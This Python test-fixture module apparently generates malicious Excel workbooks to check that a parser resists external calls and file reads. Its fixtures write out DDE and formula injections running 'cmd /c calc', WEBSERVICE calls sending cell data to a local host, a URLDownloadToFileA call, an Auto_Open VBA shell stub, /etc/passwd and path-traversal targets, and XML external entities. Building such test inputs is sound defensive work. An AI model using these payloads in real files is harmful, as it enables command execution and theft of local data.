"""Workbooks that would have a program call out, and parts that are not what they are said to be."""

from __future__ import annotations

import re
from pathlib import Path

from musuh.dasar import (
    APA_SAJA,
    BUKU,
    DAFTAR,
    RAHASIA,
    TERBACA,
    Musuh,
    bagian_nyata,
    ganti,
    musuh,
    sebelum,
    sunting,
    tambah_baris,
    tulis_zip,
)
from musuh.lembar import banyak_lembar, baris_xml, lembar_polos
from musuh.xml import ENTITAS_LUAR


@musuh("rumus yang memanggil keluar", TERBACA)
def _rumus_luar(folder: Path) -> Path:
    daftar = ("WEBSERVICE(&quot;http://127.0.0.1:9/&quot;&amp;A1)", "cmd|'/c calc'!A1",
              "HYPERLINK(&quot;file:///etc/passwd&quot;)",
              "'\\\\127.0.0.1\\bagi\\[x.xlsx]S'!A1", "IMPORTXML(&quot;http://127.0.0.1:9/&quot;,&quot;//a&quot;)",
              "[1]Lembar!A1", "CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)",
              "EXEC(&quot;calc&quot;)")  # fmt: skip
    sel = b"".join(
        baris_xml(900 + n, f'<c r="C{900 + n}" t="str"><f>{rumus}</f><v>=cmd</v></c>'.encode())
        for n, rumus in enumerate(daftar)
    )
    return tambah_baris(folder, sel)


@musuh("buku lain, DDE, koneksi, makro", TERBACA)
def _bagian_luar(folder: Path) -> Path:
    semua = bagian_nyata()
    rels = "xl/_rels/workbook.xml.rels"
    dasar = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    luar = (
        f'<Relationship Id="l1" Type="{dasar}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        f'<Relationship Id="l2" Type="{dasar}/connections" Target="connections.xml"/>'
        '<Relationship Id="l3" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        'Target="vbaProject.bin"/>'
        f'<Relationship Id="l4" Type="{dasar}/attachedTemplate" Target="http://127.0.0.1:9/t.dotm" '
        'TargetMode="External"/>'
    )
    baru = {
        rels: sebelum(b"</Relationships>", luar.encode())(semua[rels]),
        "xl/externalLinks/externalLink1.xml": (
            b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
        ),
        "xl/externalLinks/_rels/externalLink1.xml.rels": (
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" '
            f'Type="{dasar}/externalLinkPath" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
        ).encode(),
        "xl/connections.xml": (
            b'<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="http://127.0.0.1:9/"/>'
            b"</connection></connections>"
        ),
        "xl/vbaProject.bin": b"Sub Auto_Open()\nShell \"calc\"\nEnd Sub",
    }  # fmt: skip
    return ganti(folder, baru)


def _lembar_di_luar(nama: str, target: str, ekor: str, harapan: str) -> None:
    def buat(folder: Path) -> Path:
        (folder / "rahasia.txt").write_text(RAHASIA, encoding="utf-8")
        return sunting(
            folder, "xl/_rels/workbook.xml.rels",
            lambda d: re.sub(rb'Target="(?:/xl/)?worksheets/sheet4.xml"', f'Target="{target}"{ekor}'.encode(), d),
        )  # fmt: skip

    DAFTAR.append(Musuh(nama, buat, harapan))


_lembar_di_luar("lembar menunjuk ke luar paket", "../../../../../../etc/passwd", "", TERBACA)
_lembar_di_luar("lembar menunjuk berkas di sebelah", "file:rahasia.txt", "", TERBACA)
_lembar_di_luar(
    "lembar menunjuk jaringan", "http://127.0.0.1:9/lembar.xml", ' TargetMode="External"', TERBACA
)
_lembar_di_luar("lembar menunjuk daftar hubungan", "_rels/workbook.xml.rels", "", APA_SAJA)
_lembar_di_luar("lembar menunjuk dirinya sendiri", "workbook.xml", "", APA_SAJA)


@musuh("Strict Open XML", APA_SAJA)
def _strict(folder: Path) -> Path:
    tukar = (
        (b"http://schemas.openxmlformats.org/spreadsheetml/2006/main", b"http://purl.oclc.org/ooxml/spreadsheetml/main"),
        (
            b"http://schemas.openxmlformats.org/officeDocument/2006/relationships",
            b"http://purl.oclc.org/ooxml/officeDocument/relationships",
        ),
    )  # fmt: skip
    semua = bagian_nyata()
    for lama, baru in tukar:
        semua = {nama: isi.replace(lama, baru) for nama, isi in semua.items()}
    return tulis_zip(folder / "buku.xlsx", semua)


_RELS_TABEL = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="t1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/table" '
    b'Target="../tables/table1.xml"/></Relationships>'
)


@musuh("tabel Excel rusak", APA_SAJA)
def _tabel(folder: Path) -> Path:
    tabel = b'<table ref="A1:XFD9999999" headerRowCount="abc" totalsRowCount="99999999999"/>'
    return ganti(folder, {"xl/worksheets/_rels/sheet4.xml.rels": _RELS_TABEL, "xl/tables/table1.xml": tabel})


@musuh("tabel Excel bermuatan entitas", APA_SAJA)
def _tabel_entitas(folder: Path) -> Path:
    (folder / "rahasia.txt").write_text(RAHASIA, encoding="utf-8")
    return ganti(
        folder,
        {
            "xl/worksheets/_rels/sheet4.xml.rels": _RELS_TABEL,
            "xl/tables/table1.xml": ENTITAS_LUAR + b'<table ref="&a9;"/>',
        },
    )


@musuh("hubungan melingkar dan ganda", APA_SAJA)
def _hubungan_ganda(folder: Path) -> Path:
    def ubah(data: bytes) -> bytes:
        return data.replace(
            b"</Relationships>",
            b'<Relationship Id="rId1" Type="x/worksheet" Target="workbook.xml"/></Relationships>',
        )

    return sunting(folder, "xl/_rels/workbook.xml.rels", ubah)


@musuh("lembar tanpa nama, nama panjang, nama aneh", APA_SAJA)
def _nama_lembar(folder: Path) -> Path:
    aneh = (
        "",
        "x" * 100_000,
        "\u202egnirdloh",
        "&#10;&#9;",
        "=cmd|' /c calc'!A1",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    )
    baru = banyak_lembar(len(aneh), lembar_polos(b""), False)
    for n, nama in enumerate(aneh):
        baru[BUKU] = baru[BUKU].replace(f'name="Banyak{n}"'.encode(), f'name="{nama}"'.encode())
    return ganti(folder, baru)
